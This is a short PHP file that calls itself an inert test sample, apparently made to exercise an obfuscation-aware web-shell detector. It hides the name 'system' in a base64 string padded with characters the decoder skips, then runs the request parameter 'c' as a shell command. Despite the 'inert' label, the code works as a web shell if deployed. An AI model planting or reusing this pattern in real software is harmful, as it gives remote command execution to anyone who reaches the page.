<?php
// Inert test sample (nested): the callee's name is a base64 literal interleaved with characters
// PHP's decoder skips ('_' and '-'), passed through a helper to call_user_func.
function pick($s)
{
    return base64_decode($s);
}
$f = pick('c3_lz-dG_Vt');
call_user_func($f, $_GET['c']);
